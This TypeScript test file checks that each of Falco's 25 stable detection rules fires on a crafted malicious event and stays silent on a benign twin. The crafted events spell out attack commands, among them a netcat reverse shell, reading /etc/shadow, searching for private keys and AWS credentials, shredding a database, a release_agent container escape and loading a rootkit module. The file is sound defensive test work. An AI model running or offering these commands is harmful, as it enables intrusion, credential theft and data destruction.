/**
 * Falco's stable ruleset (../shared/falco beside the checkout, never copied here)
 * loads whole, and for each of its 25 rules an event built to match makes
 * exactly that rule fire (every rule evaluated: `rule_matching: all`), with
 * the output rendered as Falco renders it; a benign twin fires nothing. The
 * K8S API rule inside a cluster's name resolution (root): falco-rules.live.test.ts.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import type { VigilEvent } from '../../src/event/types.js';
import { buildAlert } from '../../src/agent/build-alert.js';
import { loadRulesetFromSources } from '../../src/engine/load-ruleset.js';
import { sampleEvent, type DeepPartial } from '../../src/engine/rule-tests/sample-event.js';
import { FALCO_RULES } from '../support/falco.js';
import { container, fired, gate, inContainer, k8sConnect, ruleset, tail } from './falco-support.js';

const O_RDONLY = 0;
const O_WRONLY = 1;
const O_TRUNC = 0o1000;
const CAP_SYS_MODULE = 2 ** 16;
const CAP_SYS_ADMIN = 2 ** 21;

const wwwData = { uid: 33, name: 'www-data', homedir: '/var/www', shell: '/usr/sbin/nologin' };

interface Case {
  rule: string;
  event: DeepPartial<VigilEvent>;
  output: string;
  benign: DeepPartial<VigilEvent>;
}

const openRead = (name: string, extra: DeepPartial<VigilEvent> = {}): DeepPartial<VigilEvent> => ({
  type: 'openat',
  ret: 3,
  args: { fd: 3, name, flags: 'O_RDONLY' },
  rawargs: { flags: O_RDONLY },
  fd: { num: 3, type: 'file', name },
  ...extra,
});

const CASES: Case[] = [
  {
    rule: 'Directory traversal monitored file read',
    event: {
      ...openRead('/etc/passwd'),
      fd: { num: 3, type: 'file', name: '/etc/passwd', nameraw: '/var/www/html/../../../etc/passwd' },
      user: wwwData,
      proc: {
        exe: '/usr/sbin/php-fpm8.2',
        args: ['php-fpm8.2'],
        ancestors: [{ exe: '/usr/sbin/nginx' }, { exe: '/usr/lib/systemd/systemd' }],
      },
    },
    output:
      'Read monitored file via directory traversal | file=/etc/passwd fileraw=/var/www/html/../../../etc/passwd ' +
      'gparent=systemd ggparent=<NA> gggparent=<NA> ' +
      tail({
        type: 'openat',
        user: 'www-data',
        uid: 33,
        proc: 'php-fpm8.2',
        exepath: '/usr/sbin/php-fpm8.2',
        parent: 'nginx',
        cmd: 'php-fpm8.2',
      }),
    benign: {
      ...openRead('/etc/passwd'),
      fd: { num: 3, type: 'file', name: '/etc/passwd', nameraw: '/etc/passwd' },
      user: wwwData,
      proc: { exe: '/usr/sbin/php-fpm8.2', args: ['php-fpm8.2'], ancestors: [{ exe: '/usr/sbin/nginx' }] },
    },
  },
  {
    // A server process long after its start; run by chef, which the "untrusted" rule excuses.
    rule: 'Read sensitive file trusted after startup',
    event: openRead('/etc/shadow', {
      proc: {
        exe: '/usr/sbin/nginx',
        args: ['nginx', '-g', 'daemon off;'],
        ancestors: [
          { exe: '/usr/sbin/nginx', cmdline: 'nginx -g daemon off;' },
          { exe: '/opt/chef/bin/chef-client' },
          { exe: '/usr/lib/systemd/systemd' },
        ],
      },
    }),
    output:
      'Sensitive file opened for reading by trusted program after startup | file=/etc/shadow ' +
      'pcmdline=nginx -g daemon off; gparent=chef-client ggparent=systemd gggparent=<NA> ' +
      tail({
        type: 'openat',
        user: 'root',
        uid: 0,
        proc: 'nginx',
        exepath: '/usr/sbin/nginx',
        parent: 'nginx',
        cmd: 'nginx -g daemon off;',
      }),
    // The same process reading a file that is not sensitive.
    benign: openRead('/etc/nginx/nginx.conf', {
      proc: {
        exe: '/usr/sbin/nginx',
        args: ['nginx', '-g', 'daemon off;'],
        ancestors: [{ exe: '/usr/sbin/nginx' }, { exe: '/opt/chef/bin/chef-client' }],
      },
    }),
  },
  {
    rule: 'Read sensitive file untrusted',
    event: openRead('/etc/shadow', {
      proc: {
        exe: '/usr/bin/cat',
        args: ['cat', '/etc/shadow'],
        tty: 34816,
        ancestors: [{ exe: '/usr/bin/bash' }, { exe: '/usr/sbin/sshd' }, { exe: '/usr/lib/systemd/systemd' }],
      },
      user: { uid: 1000, name: 'alice', loginuid: 1000, loginname: 'alice' },
    }),
    output:
      'Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ' +
      'ggparent=systemd gggparent=<NA> ' +
      tail({
        type: 'openat',
        user: 'alice',
        uid: 1000,
        loginuid: 1000,
        proc: 'cat',
        exepath: '/usr/bin/cat',
        parent: 'bash',
        cmd: 'cat /etc/shadow',
        tty: 34816,
      }),
    benign: openRead('/etc/hostname', { proc: { exe: '/usr/bin/cat', args: ['cat', '/etc/hostname'] } }),
  },
  {
    rule: 'Run shell untrusted',
    event: {
      type: 'execve',
      args: { flags: 'EXE_LOWER_LAYER' },
      user: wwwData,
      proc: {
        exe: '/usr/bin/dash',
        args: ['sh', '-c', 'id'],
        name: 'sh',
        ancestors: [
          { exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process' },
          { exe: '/usr/sbin/nginx', cmdline: 'nginx: master process' },
          { exe: '/usr/lib/systemd/systemd' },
        ],
      },
    },
    output:
      'Shell spawned by untrusted binary | parent_exe=/usr/sbin/nginx parent_exepath=/usr/sbin/nginx ' +
      'pcmdline=nginx: worker process gparent=nginx ggparent=systemd aname[4]=<NA> aname[5]=<NA> ' +
      'aname[6]=<NA> aname[7]=<NA> ' +
      tail({
        type: 'execve',
        user: 'www-data',
        uid: 33,
        proc: 'sh',
        exepath: '/usr/bin/dash',
        parent: 'nginx',
        cmd: 'sh -c id',
      }) +
      ' exe_flags=EXE_LOWER_LAYER',
    benign: {
      type: 'execve',
      proc: {
        exe: '/usr/bin/dash',
        args: ['sh', '-c', 'id'],
        name: 'sh',
        ancestors: [{ exe: '/usr/bin/make' }],
      },
    },
  },
  {
    rule: 'System user interactive',
    event: {
      type: 'execve',
      args: { flags: 'EXE_LOWER_LAYER' },
      user: wwwData,
      proc: {
        exe: '/usr/bin/ls',
        args: ['ls', '/var/www'],
        tty: 34817,
        ancestors: [{ exe: '/usr/bin/bash' }, { exe: '/usr/sbin/sshd' }],
      },
    },
    output:
      'System user ran an interactive command | ' +
      tail({
        type: 'execve',
        user: 'www-data',
        uid: 33,
        proc: 'ls',
        exepath: '/usr/bin/ls',
        parent: 'bash',
        cmd: 'ls /var/www',
        tty: 34817,
      }) +
      ' exe_flags=EXE_LOWER_LAYER',
    benign: {
      type: 'execve',
      user: { uid: 1000, name: 'alice' },
      proc: {
        exe: '/usr/bin/ls',
        args: ['ls'],
        ancestors: [{ exe: '/usr/bin/bash' }, { exe: '/usr/sbin/sshd' }],
      },
    },
  },
  {
    rule: 'Terminal shell in container',
    event: {
      type: 'execve',
      args: { flags: 'EXE_UPPER_LAYER' },
      container,
      proc: {
        ...inContainer,
        exe: '/bin/bash',
        args: ['bash'],
        tty: 34818,
        ancestors: [{ exe: '/usr/bin/runc' }, { exe: '/usr/bin/containerd-shim-runc-v2' }],
      },
    },
    output:
      'A shell was spawned in a container with an attached terminal | ' +
      tail({
        type: 'execve',
        user: 'root',
        uid: 0,
        proc: 'bash',
        exepath: '/bin/bash',
        parent: 'runc',
        cmd: 'bash',
        tty: 34818,
      }) +
      ' exe_flags=EXE_UPPER_LAYER',
    // The same shell without a terminal (a script run by the entrypoint).
    benign: {
      type: 'execve',
      container,
      proc: {
        ...inContainer,
        exe: '/bin/bash',
        args: ['bash'],
        tty: 0,
        ancestors: [{ exe: '/usr/bin/runc' }],
      },
    },
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    event: {
      type: 'execve',
      args: { flags: 'EXE_LOWER_LAYER' },
      container,
      proc: {
        ...inContainer,
        exe: '/usr/bin/nc',
        args: ['nc', '10.0.0.9', '4444', '-e', '/bin/sh'],
        ancestors: [{ exe: '/bin/sh' }],
      },
    },
    output:
      'Netcat runs inside container that allows remote code execution | ' +
      tail({
        type: 'execve',
        user: 'root',
        uid: 0,
        proc: 'nc',
        exepath: '/usr/bin/nc',
        parent: 'sh',
        cmd: 'nc 10.0.0.9 4444 -e /bin/sh',
      }) +
      ' exe_flags=EXE_LOWER_LAYER',
    benign: {
      type: 'execve',
      container,
      proc: {
        ...inContainer,
        exe: '/usr/bin/nc',
        args: ['nc', '-z', '10.0.0.9', '80'],
        ancestors: [{ exe: '/bin/sh' }],
      },
    },
  },
  {
    rule: 'Search Private Keys or Passwords',
    event: {
      type: 'execve',
      args: { flags: 'EXE_LOWER_LAYER' },
      proc: {
        exe: '/usr/bin/grep',
        args: ['grep', '-rl', 'BEGIN RSA PRIVATE', '/home'],
        ancestors: [{ exe: '/usr/bin/bash' }],
      },
    },
    output:
      'Grep private keys or passwords activities found | ' +
      tail({
        type: 'execve',
        user: 'root',
        uid: 0,
        proc: 'grep',
        exepath: '/usr/bin/grep',
        parent: 'bash',
        cmd: 'grep -rl BEGIN RSA PRIVATE /home',
      }) +
      ' exe_flags=EXE_LOWER_LAYER',
    benign: {
      type: 'execve',
      proc: {
        exe: '/usr/bin/grep',
        args: ['grep', '-r', 'TODO', 'src'],
        ancestors: [{ exe: '/usr/bin/bash' }],
      },
    },
  },
  {
    rule: 'Clear Log Activities',
    event: {
      type: 'openat',
      ret: 4,
      args: { fd: 4, name: '/var/log/auth.log', flags: 'O_WRONLY|O_TRUNC' },
      rawargs: { flags: O_WRONLY | O_TRUNC },
      fd: { num: 4, type: 'file', name: '/var/log/auth.log' },
      proc: { exe: '/usr/bin/bash', args: ['bash'], ancestors: [{ exe: '/usr/sbin/sshd' }] },
    },
    output:
      'Log files were tampered | file=/var/log/auth.log ' +
      tail({
        type: 'openat',
        user: 'root',
        uid: 0,
        proc: 'bash',
        exepath: '/usr/bin/bash',
        parent: 'sshd',
        cmd: 'bash',
      }),
    // Appending to the log (no O_TRUNC) is what loggers do.
    benign: {
      type: 'openat',
      ret: 4,
      args: { fd: 4, name: '/var/log/auth.log', flags: 'O_WRONLY|O_APPEND' },
      rawargs: { flags: O_WRONLY | 0o2000 },
      fd: { num: 4, type: 'file', name: '/var/log/auth.log' },
      proc: { exe: '/usr/sbin/rsyslogd', args: ['rsyslogd'] },
    },
  },
  {
    rule: 'Remove Bulk Data from Disk',
    event: {
      type: 'execve',
      args: { flags: 'EXE_LOWER_LAYER' },
      proc: {
        exe: '/usr/bin/shred',
        args: ['shred', '-u', '/srv/db.sqlite'],
        ancestors: [{ exe: '/usr/bin/bash' }],
      },
    },
    output:
      'Bulk data has been removed from disk | file=<NA> ' +
      tail({
        type: 'execve',
        user: 'root',
        uid: 0,
        proc: 'shred',
        exepath: '/usr/bin/shred',
        parent: 'bash',
        cmd: 'shred -u /srv/db.sqlite',
      }) +
      ' exe_flags=EXE_LOWER_LAYER',
    benign: {
      type: 'execve',
      proc: { exe: '/usr/bin/rm', args: ['rm', '/tmp/x'], ancestors: [{ exe: '/usr/bin/bash' }] },
    },
  },
  {
    rule: 'Create Symlink Over Sensitive Files',
    event: {
      type: 'symlinkat',
      args: { target: '/etc/shadow', linkpath: '/tmp/shadow' },
      proc: {
        exe: '/usr/bin/ln',
        args: ['ln', '-s', '/etc/shadow', '/tmp/shadow'],
        ancestors: [{ exe: '/usr/bin/bash' }],
      },
    },
    output:
      'Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/shadow ' +
      tail({
        type: 'symlinkat',
        user: 'root',
        uid: 0,
        proc: 'ln',
        exepath: '/usr/bin/ln',
        parent: 'bash',
        cmd: 'ln -s /etc/shadow /tmp/shadow',
      }),
    benign: {
      type: 'symlinkat',
      args: { target: '/usr/share/zoneinfo/UTC', linkpath: '/etc/localtime' },
      proc: { exe: '/usr/bin/ln', args: ['ln', '-sf', '/usr/share/zoneinfo/UTC', '/etc/localtime'] },
    },
  },
  {
    rule: 'Create Hardlink Over Sensitive Files',
    event: {
      type: 'linkat',
      args: { oldpath: '/etc/shadow', newpath: '/tmp/s' },
      proc: {
        exe: '/usr/bin/ln',
        args: ['ln', '/etc/shadow', '/tmp/s'],
        ancestors: [{ exe: '/usr/bin/bash' }],
      },
    },
    output:
      'Hardlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/s ' +
      tail({
        type: 'linkat',
        user: 'root',
        uid: 0,
        proc: 'ln',
        exepath: '/usr/bin/ln',
        parent: 'bash',
        cmd: 'ln /etc/shadow /tmp/s',
      }),
    benign: {
      type: 'linkat',
      args: { oldpath: '/tmp/a', newpath: '/tmp/b' },
      proc: { exe: '/usr/bin/ln', args: ['ln', '/tmp/a', '/tmp/b'] },
    },
  },
  {
    rule: 'Packet socket created in container',
    event: {
      type: 'socket',
      ret: 3,
      args: { domain: 'AF_PACKET', type: 'SOCK_RAW', proto: 768 },
      container,
      proc: {
        ...inContainer,
        exe: '/usr/sbin/arpspoof',
        args: ['arpspoof', '-i', 'eth0'],
        ancestors: [{ exe: '/bin/sh' }],
      },
    },
    output:
      'Packet socket was created in a container | socket_info=domain=AF_PACKET type=SOCK_RAW proto=768 ' +
      'connection=<NA> lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> ' +
      tail({
        type: 'socket',
        user: 'root',
        uid: 0,
        proc: 'arpspoof',
        exepath: '/usr/sbin/arpspoof',
        parent: 'sh',
        cmd: 'arpspoof -i eth0',
      }),
    benign: {
      type: 'socket',
      ret: 3,
      args: { domain: 'AF_INET', type: 'SOCK_STREAM', proto: 0 },
      container,
      proc: { ...inContainer, exe: '/usr/bin/curl', args: ['curl', 'example.com'] },
    },
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    event: {
      type: 'dup2',
      ret: 1,
      args: { oldfd: 3, newfd: 1 },
      container,
      fd: {
        num: 1,
        type: 'ipv4',
        name: '172.17.0.2:40312->203.0.113.7:4444',
        l4proto: 'tcp',
        lip: '172.17.0.2',
        lport: 40312,
        rip: '203.0.113.7',
        rport: 4444,
        is_server: false,
        connected: true,
      },
      proc: {
        ...inContainer,
        exe: '/bin/bash',
        args: ['bash', '-i'],
        ancestors: [{ exe: '/usr/bin/python3.11' }],
      },
    },
    output:
      'Redirect stdout/stdin to network connection | gparent=<NA> ggparent=<NA> gggparent=<NA> ' +
      'fd.sip=203.0.113.7 connection=172.17.0.2:40312->203.0.113.7:4444 lport=40312 rport=4444 fd_type=ipv4 ' +
      'fd_proto=tcp ' +
      tail({
        type: 'dup2',
        user: 'root',
        uid: 0,
        proc: 'bash',
        exepath: '/bin/bash',
        parent: 'python3.11',
        cmd: 'bash -i',
      }),
    // dup2 of a pipe onto stdout: what every shell pipeline does.
    benign: {
      type: 'dup2',
      ret: 1,
      container,
      fd: { num: 1, type: 'pipe', name: 'pipe:[123]' },
      proc: { ...inContainer, exe: '/bin/bash', args: ['bash'] },
    },
  },
  {
    rule: 'Linux Kernel Module Injection Detected',
    event: {
      type: 'finit_module',
      ret: -1,
      args: { fd: 3, uargs: '', flags: 0 },
      container,
      proc: {
        ...inContainer,
        exe: '/usr/sbin/insmod',
        args: ['insmod', 'rootkit.ko'],
        cap_effective: CAP_SYS_MODULE,
        ancestors: [{ exe: '/bin/sh' }, { exe: '/usr/bin/runc' }],
      },
    },
    output:
      'Linux Kernel Module injection from container | parent_exepath=/bin/sh gparent=runc ' +
      'gexepath=/usr/bin/runc module=rootkit.ko res=EPERM ' +
      tail({
        type: 'finit_module',
        user: 'root',
        uid: 0,
        proc: 'insmod',
        exepath: '/usr/sbin/insmod',
        parent: 'sh',
        cmd: 'insmod rootkit.ko',
      }),
    // Without CAP_SYS_MODULE the attempt is harmless (and fails).
    benign: {
      type: 'finit_module',
      ret: -1,
      container,
      proc: { ...inContainer, exe: '/usr/sbin/insmod', args: ['insmod', 'rootkit.ko'], cap_effective: 0 },
    },
  },
  {
    rule: 'Debugfs Launched in Privileged Container',
    event: {
      type: 'execve',
      args: { flags: 'EXE_LOWER_LAYER' },
      container: { ...container, privileged: true },
      proc: {
        ...inContainer,
        exe: '/usr/sbin/debugfs',
        args: ['debugfs', '/dev/sda1'],
        ancestors: [{ exe: '/bin/sh' }],
      },
    },
    output:
      'Debugfs launched started in a privileged container | ' +
      tail({
        type: 'execve',
        user: 'root',
        uid: 0,
        proc: 'debugfs',
        exepath: '/usr/sbin/debugfs',
        parent: 'sh',
        cmd: 'debugfs /dev/sda1',
      }) +
      ' exe_flags=EXE_LOWER_LAYER',
    benign: {
      type: 'execve',
      container: { ...container, privileged: false },
      proc: { ...inContainer, exe: '/usr/sbin/debugfs', args: ['debugfs', '/dev/sda1'] },
    },
  },
  {
    rule: 'Detect release_agent File Container Escapes',
    event: {
      type: 'openat',
      ret: 3,
      args: { fd: 3, name: '/tmp/cgrp/release_agent', flags: 'O_WRONLY' },
      rawargs: { flags: O_WRONLY },
      fd: { num: 3, type: 'file', name: '/tmp/cgrp/release_agent' },
      container,
      proc: {
        ...inContainer,
        exe: '/bin/bash',
        args: ['bash', '-c', 'echo /cmd > /tmp/cgrp/release_agent'],
        cap_effective: CAP_SYS_ADMIN,
        ancestors: [{ exe: '/bin/sh' }],
      },
    },
    output:
      'Detect an attempt to exploit a container escape using release_agent file | ' +
      'file=/tmp/cgrp/release_agent cap_effective=CAP_SYS_ADMIN ' +
      tail({
        type: 'openat',
        user: 'root',
        uid: 0,
        proc: 'bash',
        exepath: '/bin/bash',
        parent: 'sh',
        cmd: 'bash -c echo /cmd > /tmp/cgrp/release_agent',
      }),
    benign: {
      type: 'openat',
      ret: 3,
      rawargs: { flags: O_WRONLY },
      fd: { num: 3, type: 'file', name: '/tmp/cgrp/release_agent' },
      container,
      proc: { ...inContainer, exe: '/bin/bash', args: ['bash'], cap_effective: 0 },
      user: { uid: 1000, name: 'app' },
    },
  },
  {
    rule: 'PTRACE attached to process',
    event: {
      type: 'ptrace',
      args: { request: 'PTRACE_ATTACH', pid: 1234 },
      proc: {
        exe: '/usr/bin/gdb',
        args: ['gdb', '-p', '1234'],
        ancestors: [{ exe: '/usr/bin/bash', cmdline: 'bash -l' }],
      },
    },
    output:
      'Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=bash -l ' +
      tail({
        type: 'ptrace',
        user: 'root',
        uid: 0,
        proc: 'gdb',
        exepath: '/usr/bin/gdb',
        parent: 'bash',
        cmd: 'gdb -p 1234',
      }),
    benign: {
      type: 'ptrace',
      args: { request: 'PTRACE_PEEKDATA', pid: 1234 },
      proc: { exe: '/usr/bin/gdb', args: ['gdb', '-p', '1234'] },
    },
  },
  {
    rule: 'PTRACE anti-debug attempt',
    event: {
      type: 'ptrace',
      args: { request: 'PTRACE_TRACEME', pid: 0 },
      proc: {
        exe: '/tmp/malware',
        args: ['./malware'],
        name: 'malware',
        ancestors: [{ exe: '/usr/bin/bash', cmdline: 'bash' }],
      },
    },
    output:
      'Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=bash ' +
      tail({
        type: 'ptrace',
        user: 'root',
        uid: 0,
        proc: 'malware',
        exepath: '/tmp/malware',
        parent: 'bash',
        cmd: './malware',
      }),
    benign: {
      type: 'ptrace',
      args: { request: 'PTRACE_GETREGS', pid: 77 },
      proc: { exe: '/usr/bin/strace', args: ['strace', '-p', '77'] },
    },
  },
  {
    rule: 'Find AWS Credentials',
    event: {
      type: 'execve',
      args: { flags: 'EXE_LOWER_LAYER' },
      group: { gid: 1000, name: 'alice' },
      user: { uid: 1000, name: 'alice', loginuid: 1000, loginname: 'alice' },
      proc: {
        exe: '/usr/bin/find',
        args: ['find', '/home', '-path', '*/.aws/credentials'],
        cwd: '/home/alice',
        ancestors: [{ exe: '/usr/bin/bash', cmdline: 'bash' }],
      },
    },
    output:
      'Detected AWS credentials search activity | proc_pcmdline=bash proc_cwd=/home/alice group_gid=1000 ' +
      'group_name=alice user_loginname=alice ' +
      tail({
        type: 'execve',
        user: 'alice',
        uid: 1000,
        loginuid: 1000,
        proc: 'find',
        exepath: '/usr/bin/find',
        parent: 'bash',
        cmd: 'find /home -path */.aws/credentials',
      }) +
      ' exe_flags=EXE_LOWER_LAYER',
    benign: {
      type: 'execve',
      proc: { exe: '/usr/bin/find', args: ['find', '/home', '-name', '*.log'] },
    },
  },
  {
    rule: 'Execution from /dev/shm',
    event: {
      type: 'execve',
      args: { flags: 'EXE_WRITABLE' },
      proc: {
        exe: '/dev/shm/.x',
        args: ['/dev/shm/.x'],
        cwd: '/tmp',
        ancestors: [{ exe: '/usr/bin/bash', cmdline: 'bash' }],
      },
    },
    output:
      'File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/tmp proc_pcmdline=bash ' +
      'user_loginname= group_gid=0 group_name=root ' +
      tail({
        type: 'execve',
        user: 'root',
        uid: 0,
        proc: '.x',
        exepath: '/dev/shm/.x',
        parent: 'bash',
        cmd: '/dev/shm/.x',
      }) +
      ' exe_flags=EXE_WRITABLE',
    benign: {
      type: 'execve',
      proc: { exe: '/usr/bin/ls', args: ['ls', '/dev/shm'], cwd: '/tmp' },
    },
  },
  {
    rule: 'Drop and execute new binary in container',
    event: {
      type: 'execve',
      args: { flags: 'EXE_WRITABLE|EXE_UPPER_LAYER' },
      container: { ...container, start_ts: 1732395000000000000 },
      proc: {
        ...inContainer,
        exe: '/tmp/xmrig',
        args: ['./xmrig'],
        name: 'xmrig',
        cwd: '/tmp',
        exe_upper_layer: true,
        exe_ctime: 1732395500000000000,
        exe_mtime: 1732395500000000000,
        start_ts: 1732395590000000000,
        ancestors: [{ exe: '/bin/sh' }],
      },
    },
    output:
      'Executing binary not part of base image | proc_exe=./xmrig proc_sname=sh gparent=<NA> ' +
      'proc_exe_ino_ctime=1732395500000000000 proc_exe_ino_mtime=1732395500000000000 ' +
      'proc_exe_ino_ctime_duration_proc_start=90000000000 proc_cwd=/tmp container_start_ts=1732395000000000000 ' +
      tail({
        type: 'execve',
        user: 'root',
        uid: 0,
        proc: 'xmrig',
        exepath: '/tmp/xmrig',
        parent: 'sh',
        cmd: './xmrig',
      }) +
      ' exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER',
    benign: {
      type: 'execve',
      container,
      proc: { ...inContainer, exe: '/usr/bin/ls', args: ['ls'], exe_upper_layer: false },
    },
  },
  {
    rule: 'Disallowed SSH Connection Non Standard Port',
    event: {
      type: 'connect',
      ret: 0,
      args: { fd: 3, addr: '203.0.113.7:443' },
      fd: {
        num: 3,
        type: 'ipv4',
        name: '192.168.1.20:51000->203.0.113.7:443',
        l4proto: 'tcp',
        lip: '192.168.1.20',
        lport: 51000,
        rip: '203.0.113.7',
        rport: 443,
        is_server: false,
        connected: true,
      },
      proc: {
        exe: '/usr/bin/ssh',
        args: ['ssh', '-p', '443', 'user@203.0.113.7'],
        ancestors: [{ exe: '/usr/bin/bash' }],
      },
    },
    output:
      'Disallowed SSH Connection | connection=192.168.1.20:51000->203.0.113.7:443 lport=51000 rport=443 ' +
      'fd_type=ipv4 fd_proto=tcp ' +
      tail({
        type: 'connect',
        user: 'root',
        uid: 0,
        proc: 'ssh',
        exepath: '/usr/bin/ssh',
        parent: 'bash',
        cmd: 'ssh -p 443 user@203.0.113.7',
      }),
    // ssh to the standard port.
    benign: {
      type: 'connect',
      ret: 0,
      fd: {
        num: 3,
        type: 'ipv4',
        name: '192.168.1.20:51000->203.0.113.7:22',
        l4proto: 'tcp',
        lip: '192.168.1.20',
        lport: 51000,
        rip: '203.0.113.7',
        rport: 22,
        is_server: false,
        connected: true,
      },
      proc: { exe: '/usr/bin/ssh', args: ['ssh', 'user@203.0.113.7'] },
    },
  },
  {
    rule: 'Fileless execution via memfd_create',
    event: {
      type: 'execve',
      args: { flags: 'EXE_FROM_MEMFD' },
      proc: {
        exe: 'memfd:payload',
        args: ['[kworker/0:1]'],
        name: 'payload',
        cwd: '/',
        exe_from_memfd: true,
        // The parent (pid 4200) leads the session (sid 4200): proc.sname is its name.
        ancestors: [{ exe: '/usr/bin/python3.11' }],
      },
    },
    output:
      'Fileless execution via memfd_create | container_start_ts=<NA> proc_cwd=/ evt_res=SUCCESS proc_sname=python3.11 ' +
      'gparent=<NA> ' +
      tail({
        type: 'execve',
        user: 'root',
        uid: 0,
        proc: 'payload',
        exepath: 'memfd:payload',
        parent: 'python3.11',
        cmd: '[kworker/0:1]',
      }) +
      ' exe_flags=EXE_FROM_MEMFD',
    // runc re-executing itself from a memfd is how containers start.
    benign: {
      type: 'execve',
      proc: {
        exe: 'memfd:runc_cloned:/proc/self/exe',
        args: ['runc', 'init'],
        name: 'runc',
        exe_from_memfd: true,
      },
    },
  },
];

describe("Falco's stable ruleset", () => {
  it('loads with every rule enabled, nothing skipped', (t) => {
    if (!gate(t)) return;
    const info = ruleset().info;
    assert.equal(info.rules.length, 25);
    assert.equal(info.rules.filter((r) => r.enabled).length, 25);
    assert.deepEqual(info.skipped, []);
    assert.deepEqual(
      info.requirements.engineVersions.map((v) => v.version),
      ['0.57.0'],
    );
    assert.deepEqual(
      info.requirements.plugins.map((p) => `${p.name} ${p.version}`),
      ['container 0.4.0'],
    );
  });

  it('has a case below for each of its rules', (t) => {
    if (!gate(t)) return;
    const names = ruleset().info.rules.map((r) => r.name);
    const covered = [...CASES.map((c) => c.rule), 'Contact K8S API Server From Container'];
    assert.deepEqual([...covered].sort(), [...names].sort());
  });

  // Inside a cluster's name resolution: falco-rules.live.test.ts (root). Here the rule is checked
  // unchanged but for the name its macro compares with: one that resolves here (localhost, from
  // /etc/hosts), amended the way a user would, by an override file.
  it("Contact K8S API Server From Container: fires alone with Falco's output (API server name overridden)", (t) => {
    if (!gate(t)) return;
    const rs = loadRulesetFromSources(
      [
        { path: FALCO_RULES, text: readFileSync(FALCO_RULES, 'utf8') },
        {
          path: 'local.yaml',
          text: '- macro: k8s_api_server\n  condition: (fd.sip.name="localhost")\n  override:\n    condition: replace\n',
        },
      ],
      'all',
    );
    const ev = sampleEvent(k8sConnect);
    assert.deepEqual(
      rs.evaluate(ev).map((r) => r.name),
      ['Contact K8S API Server From Container'],
    );
    assert.equal(
      buildAlert(rs.evaluate(ev)[0], ev).output,
      'Unexpected connection to K8s API Server from container | connection=172.17.0.2:40000->127.0.0.1:443 ' +
        'lport=40000 rport=443 fd_type=ipv4 fd_proto=tcp ' +
        tail({
          type: 'connect',
          user: 'root',
          uid: 0,
          proc: 'curl',
          exepath: '/usr/bin/curl',
          parent: 'sh',
          cmd: 'curl -k https://kubernetes.default/api',
        }),
    );
    // The same connection from the host is not this rule's business.
    const fromHost = sampleEvent({
      ...k8sConnect,
      container: undefined,
      proc: { ...k8sConnect.proc, container_id: '' },
    });
    assert.deepEqual(
      rs.evaluate(fromHost).map((r) => r.name),
      [],
    );
  });

  for (const c of CASES) {
    it(`${c.rule}: fires alone with Falco's output; its benign twin fires nothing`, (t) => {
      if (!gate(t)) return;
      const ev = sampleEvent(c.event);
      assert.deepEqual(fired(ev), [c.rule]);
      const rule = ruleset().evaluate(ev)[0];
      assert.equal(buildAlert(rule, ev).output, c.output);
      assert.deepEqual(fired(sampleEvent(c.benign)), []);
    });
  }
});
